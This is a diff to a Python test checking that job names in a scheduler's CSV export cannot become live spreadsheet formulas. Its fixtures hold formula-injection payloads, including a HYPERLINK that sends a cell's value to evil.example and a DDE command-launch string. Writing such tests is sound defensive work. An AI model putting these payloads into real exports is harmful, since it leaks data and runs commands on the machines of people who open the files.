@@ -121,7 +121,7 @@ def test_csv_text_cells_are_never_live_formulas_and_numbers_stay_numbers(tmp_pat
     """A job name is the user's: ``=HYPERLINK(...)`` in the export ran in the admin's spreadsheet."""
     store = StateStore(tmp_path / "state.db")
     names = {1: '=HYPERLINK("http://evil.example/?"&B3,"open")', 2: "+1+cmd|' /C calc'!A0", 3: "-2+3",
-             4: "@SUM(A1:A9)", 5: "\t=1+1", 7: "resnet-50"}
+             4: "@SUM(A1:A9)", 5: "\t=1+1", 7: "resnet-50", 8: "a\rforged"}
     for job_id, name in names.items():
         store.record_decisions(T0, [JobDecision(job_id, start_at=T0 + 3600, reason="=1+1" if job_id == 1 else "deferred",
                                                 expected_runtime_s=3600, expected_carbon_kg=0.1, carbon_if_now_kg=0.4)])
@@ -132,7 +132,8 @@ def test_csv_text_cells_are_never_live_formulas_and_numbers_stay_numbers(tmp_pat
     assert result.exit_code == 0, result.output
     rows = {int(r["job_id"]): r for r in csv.DictReader(io.StringIO(result.stdout))}
     assert {job_id: rows[job_id]["name"] for job_id in names} == {
-        job_id: name if job_id == 7 else f"'{name}" for job_id, name in names.items()}
+        job_id: name if job_id in (7, 8) else f"'{name}" for job_id, name in names.items()}
+    assert sorted(rows) == sorted(names)  # a carriage return in a name is no row of its own
     assert rows[1]["reason"] == "'=1+1" and rows[2]["reason"] == "deferred" and rows[1]["account"] == "'-physics"
     assert float(rows[1]["expected_carbon_kg"]) == 0.1 and rows[1]["cap_fraction"] == ""
 
